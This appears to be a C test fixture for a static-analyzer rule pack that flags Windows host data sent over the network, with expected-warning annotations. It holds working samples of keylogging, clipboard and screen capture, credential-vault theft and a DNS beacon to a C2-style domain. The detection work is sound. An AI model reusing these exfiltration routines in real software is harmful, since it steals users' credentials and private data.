/* Annotated samples for the telemetry pack in C: host data that reaches the network. */
#include <windows.h>
#include <winsock2.h>
#include <wininet.h>
#include <tlhelp32.h>
#include <stdio.h>
#include <string.h>

struct host_info {
	char computer[64];
	char user[64];
	DWORD serial;
	char banner[32];
};

static void fill_info(struct host_info *info)
{
	DWORD n = sizeof info->computer;
	GetComputerNameA(info->computer, &n);
	n = sizeof info->user;
	GetUserNameA(info->user, &n);
	GetVolumeInformationA("C:\\", NULL, 0, &info->serial, NULL, NULL, NULL, 0);
	strcpy(info->banner, "agent/2.1");
}

/* A thin in-tree wrapper: only calls send. */
static int send_all(SOCKET s, const char *buf, int len)
{
	return send(s, buf, len, 0); // want "telemetry/host-identity-upload"
}

int register_host(SOCKET s)
{
	struct host_info info;
	char packet[256];
	fill_info(&info);
	snprintf(packet, sizeof packet, "HELLO %s %s %08lx", info.computer, info.user, info.serial);
	return send_all(s, packet, (int)strlen(packet));
}

int send_banner(SOCKET s)
{
	struct host_info info;
	fill_info(&info);
	send(s, "PING", 4, 0); // ok: constant data is not telemetry
	return send(s, info.banner, (int)strlen(info.banner), 0); /* ok: the banner field is a constant; only other fields hold host data */
}

int log_only(void)
{
	char name[64];
	DWORD n = sizeof name;
	GetComputerNameA(name, &n);
	printf("running on %s\n", name); /* ok: logged locally, never sent */
	return 0;
}

int upload_document(HINTERNET req, const char *path)
{
	char buf[4096];
	DWORD got = 0;
	HANDLE f = CreateFileA(path, GENERIC_READ, 0, NULL, OPEN_EXISTING, 0, NULL);
	ReadFile(f, buf, sizeof buf, &got, NULL);
	DWORD size = GetFileSize(f, NULL);
	CloseHandle(f);
	InternetWriteFile(req, &size, sizeof size, &got); /* ok: the file's size is not its contents */
	return HttpSendRequestA(req, NULL, 0, buf, got); // want "telemetry/file-content-upload"
}

int list_documents(SOCKET s)
{
	WIN32_FIND_DATAA fd;
	HANDLE h = FindFirstFileA("C:\\Users\\*\\Documents\\*.docx", &fd);
	if (h == INVALID_HANDLE_VALUE)
		return -1;
	do {
		send(s, fd.cFileName, (int)strlen(fd.cFileName), 0); // want "telemetry/directory-listing-upload"
	} while (FindNextFileA(h, &fd));
	FindClose(h);
	return 0;
}

static char g_processes[8192];

void snapshot_processes(void)
{
	PROCESSENTRY32 pe;
	HANDLE snap = CreateToolhelp32Snapshot(TH32CS_SNAPPROCESS, 0);
	pe.dwSize = sizeof pe;
	if (Process32First(snap, &pe)) {
		do {
			strcat(g_processes, pe.szExeFile);
			strcat(g_processes, ";");
		} while (Process32Next(snap, &pe));
	}
	CloseHandle(snap);
}

void report_processes(SOCKET s)
{
	send(s, g_processes, (int)strlen(g_processes), 0); // want "telemetry/process-list-upload"
}

int report_installed(SOCKET s, HKEY key)
{
	char value[512];
	DWORD len = sizeof value;
	RegQueryValueExA(key, "DisplayName", NULL, NULL, (LPBYTE)value, &len);
	return send(s, value, (int)len, 0); // want "telemetry/registry-upload"
}

int report_path(SOCKET s)
{
	char *profile = getenv("USERPROFILE");
	char line[600];
	sprintf(line, "profile=%s", profile);
	return send(s, line, (int)strlen(line), 0); // want "telemetry/environment-upload"
}

static char g_keys[1024];
static int g_nkeys;

void poll_keys(void)
{
	for (int vk = 8; vk < 256; vk++) {
		if (GetAsyncKeyState(vk) & 1)
			g_keys[g_nkeys++] = (char)vk;
	}
}

void flush_keys(SOCKET s)
{
	send(s, g_keys, g_nkeys, 0); // want "telemetry/keystroke-upload"
}

int report_clipboard(SOCKET s)
{
	HANDLE h;
	OpenClipboard(NULL);
	h = GetClipboardData(CF_TEXT);
	char *text = (char *)GlobalLock(h);
	return send(s, text, (int)strlen(text), 0); // want "telemetry/clipboard-upload"
}

int report_screen(SOCKET s, HDC dc, HBITMAP bmp, BITMAPINFO *bi)
{
	static BYTE pixels[1 << 20];
	GetDIBits(dc, bmp, 0, 600, pixels, bi, DIB_RGB_COLORS);
	return send(s, (char *)pixels, sizeof pixels, 0); // want "telemetry/screen-upload"
}

int report_credentials(SOCKET s)
{
	DWORD count = 0;
	PCREDENTIALA *creds = NULL;
	CredEnumerateA(NULL, 0, &count, &creds);
	for (DWORD i = 0; i < count; i++)
		send(s, (char *)creds[i]->CredentialBlob, creds[i]->CredentialBlobSize, 0); // want "telemetry/credential-upload"
	return 0;
}

int dns_beacon(void)
{
	char name[64], query[128];
	DWORD n = sizeof name;
	GetComputerNameA(name, &n);
	sprintf(query, "%s.c2.avcorp-cloud.net", name);
	return gethostbyname(query) != NULL; // want "telemetry/host-identity-upload"
}

int local_config(SOCKET s, int argc, char **argv)
{
	char buf[128];
	FILE *cfg = fopen("agent.cfg", "r");
	fgets(buf, sizeof buf, cfg);
	printf("config: %s\n", buf); /* ok: the configuration is only logged */
	return send(s, argv[1], (int)strlen(argv[1]), 0); /* ok: argv is not host data */
}
